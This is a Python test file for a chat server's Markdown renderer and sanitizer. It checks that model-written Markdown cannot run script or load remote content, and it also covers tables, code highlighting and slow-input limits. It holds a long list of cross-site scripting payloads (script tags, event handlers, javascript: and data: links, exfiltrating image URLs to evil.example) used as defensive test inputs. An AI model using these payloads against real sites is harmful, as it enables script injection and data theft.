"""A model's Markdown: what is shown of it, and that nothing of it runs, loads or looks like the page itself (A37)."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from chatserve.page.highlight import CLASSES, LANGUAGES, highlighted
from chatserve.page.markdown import LONGEST, LONGEST_RUN, MOST_LINES, Rendered, render, render_text
from chatserve.page.sanitize import sanitized

TAGS = (
    {"a", "br", "code", "em", "s", "span", "strong", "blockquote", "hr", "li", "ol", "p", "pre", "ul"}
    | {"h1", "h2", "h3", "h4", "h5", "h6"}
    | {"table", "tbody", "td", "th", "thead", "tr"}
)
LINK = {"href", "title", "target", "rel"}


class Seen(HTMLParser):
    """What a browser would find in some HTML."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")


def check_harmless(html: str) -> Seen:
    seen = Seen(html)
    for tag, attributes in seen.tags:
        assert tag in TAGS
        allowed = LINK if tag == "a" else {"start"} if tag == "ol" else {"class"}
        assert set(attributes) <= allowed
        if "href" in attributes:
            assert re.match(r"(https?|mailto):", str(attributes["href"]), re.IGNORECASE)
            assert attributes["rel"] == "noopener noreferrer nofollow"
            assert attributes["target"] == "_blank"
        for name in str(attributes.get("class") or "").split():
            assert name in CLASSES or name.removeprefix("language-") in LANGUAGES or name.startswith("align-")
    return seen


def whole(text: str) -> str:
    rendered = render(text)
    return (rendered.thinking or "") + "".join(rendered.blocks)


INJECTIONS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<form action=https://evil.example><input name=key></form>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<a href=javascript:alert(1)>x</a>",
    "<!-- --><script>alert(1)</script>",
    "<scr",
    "<a href='",
    '"><script>alert(1)</script>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](/admin/flush)",
    "[x](//evil.example/x)",
    "[x](https://ok.example '\"><script>alert(1)</script>')",
    '[x](https://ok.example "\\" onmouseover=alert(1) x=\\"")',
    '[x](https://ok.example/"onmouseover="alert(1))',
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    "<javascript:alert(1)>",
    "[a]\n\n[a]: javascript:alert(1)",
    "![x](https://evil.example/?words=secret)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![x](x 'onerror=alert(1)')",
    "![<script>alert(1)</script>](https://ok.example/i.png)",
    "[![x](https://evil.example/i.png)](javascript:alert(1))",
    "```<script>\nalert(1)\n```",
    "```html\n<script>alert(1)</script>\n```",
    '```"onload=alert(1)\nx\n```',
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "````\n```\n</pre><script>alert(1)</script>\n```\n````",
    "~~~\n```\n<svg onload=alert(1)>\n~~~",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "- <svg onload=alert(1)>\n  > <script>",
    "# <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<think><script>alert(1)</script></think><img src=x onerror=alert(1)>",
    "<think>[x](javascript:alert(1))",
    "**<b onclick=alert(1)>x**",
    "\u202e<script>",
]


@pytest.mark.parametrize("text", INJECTIONS)
def test_nothing_of_a_model_runs_or_loads(text: str) -> None:
    """A37"""
    check_harmless(whole(text))
    check_harmless(whole(f"before\n\n{text}\n\nafter"))


@given(
    st.lists(st.sampled_from([*INJECTIONS, "\n", "\n\n", "> ", "- ", "[", "](", ")", "`", "<", '"', "'"]), max_size=8)
)
@settings(max_examples=100, deadline=None)
def test_parts_that_are_harmless_alone_are_harmless_together(parts: list[str]) -> None:
    """A37"""
    check_harmless(whole("".join(parts)))


@given(st.text(max_size=300))
@settings(max_examples=100, deadline=None)
def test_any_text_is_harmless_and_plain_words_are_all_there(text: str) -> None:
    check_harmless(whole(text))


@pytest.mark.parametrize("html", [*(text for text in INJECTIONS if "<" in text), "<p onclick=x class=modal>x</p>"])
def test_the_sanitizer_trusts_no_renderer(html: str) -> None:
    check_harmless(sanitized(html))


def test_markdown_is_shown_as_people_mean_it() -> None:
    text = "# T\n\none **two** *three* ~~four~~ `five`\nsix\n\n1. a\n2. b\n\n> q\n\n---\n"
    assert [block.strip() for block in render(text).blocks] == [
        "<h1>T</h1>",
        "<p>one <strong>two</strong> <em>three</em> <s>four</s> <code>five</code><br>\nsix</p>",
        "<ol>\n<li>a</li>\n<li>b</li>\n</ol>",
        "<blockquote>\n<p>q</p>\n</blockquote>",
        "<hr>",
    ]


def test_a_table_says_its_sides_by_classes() -> None:
    (table,) = render("|a|b|c|\n|:-|:-:|-:|\n|1|2|3|\n").blocks
    assert [tag[1].get("class") for tag in Seen(table).tags if tag[0] == "td"] == [
        "align-left",
        "align-center",
        "align-right",
    ]
    assert "style" not in table


def test_an_image_is_a_link_to_it() -> None:
    (block,) = render("![a *cat*](https://pictures.example/cat.png)").blocks
    seen = check_harmless(block)
    assert [tag for tag, _ in seen.tags] == ["p", "a"]
    assert seen.tags[1][1]["href"] == "https://pictures.example/cat.png"
    assert "cat" in seen.text


def test_an_image_inside_a_link_leaves_one_link() -> None:
    (block,) = render("[![badge](https://a.example/b.svg)](https://c.example)").blocks
    seen = check_harmless(block)
    assert [tag[1]["href"] for tag in seen.tags if tag[0] == "a"] == ["https://c.example"]
    assert seen.text.strip() == "badge"


def test_code_is_coloured_by_classes_and_whole() -> None:
    code = "def f(x: int) -> str:\n\treturn '<&>'  # é\n\n\n"
    (block,) = render(f"```python\n{code}```").blocks
    seen = check_harmless(block)
    assert seen.text == code
    assert seen.tags[1] == ("code", {"class": "language-python"})
    assert ("span", {"class": "hl-k"}) in seen.tags


@pytest.mark.parametrize("language", sorted(LANGUAGES))
def test_every_language_keeps_every_character(language: str) -> None:
    code = "  x = {'a': [1, 2.5]} // y\n\n# <b> & \"c\"\n\tend;\n"
    assert Seen(highlighted(code, language)).text == code


@pytest.mark.parametrize("info", ["brainfuck", "", "python3000", '"><script>', "py" * 1000])
def test_an_unknown_language_is_plain(info: str) -> None:
    (block,) = render(f"```{info}\nx < 1\n```").blocks
    assert block == "<pre><code>x &lt; 1\n</code></pre>"


def test_long_code_is_plain_and_long_text_is_itself() -> None:
    long_code = "x = 1\n" * 4000
    (block,) = render(f"```python\n{long_code}```").blocks
    assert "<span" not in block
    assert Seen(block).text == long_code
    run = "*a* " * (LONGEST_RUN // 4 + 1)
    (block,) = render(run).blocks
    assert (Seen(block).text.strip(), [tag for tag, _ in Seen(block).tags]) == (run.strip(), ["p"])
    for text in ("*a* " * (LONGEST // 4 + 1), "*a*\n" * (MOST_LINES + 1)):
        (block,) = render(text).blocks
        assert Seen(block).text == text


@pytest.mark.parametrize(
    "text",
    [
        "[" * LONGEST_RUN,
        "![" * (LONGEST_RUN // 2),
        "[a](" * (LONGEST_RUN // 4),
        "*_" * (LONGEST_RUN // 2),
        "> " * 50 + "a\n" + "b\n" * (MOST_LINES - 1),
        "- " * 1000 + "a",
        "|a|b|\n|-|-|\n" + "|x|y|\n" * (MOST_LINES - 2),
        "[\n" * MOST_LINES,
        "```\n~~~\n" * (MOST_LINES // 2),
        "```python\n" + "'" * 20_000,
        '```js\n`${`${"' * 1000,
    ],
    ids=lambda text: text[:6],
)
def test_no_text_holds_up_the_others_for_long(text: str) -> None:
    """Each of these grows with its square, or worse, where nothing bounds it."""
    began = time.process_time()
    check_harmless(whole(text))
    assert time.process_time() - began < 20


def test_what_an_answer_thinks_is_apart_from_what_it_says() -> None:
    assert render("<think>\nhm *x*\n</think>\n\nyes") == Rendered("<p>hm <em>x</em></p>\n", ("<p>yes</p>\n",))
    assert render("\n <think>hm") == Rendered("<p>hm</p>\n", ())
    assert render("<think>\n\n</think>\n\nyes") == Rendered(None, ("<p>yes</p>\n",))
    assert render("no <think>x</think>").thinking is None
    assert "think" in render_text("<think>x</think>")  # a user's words are no model's thoughts
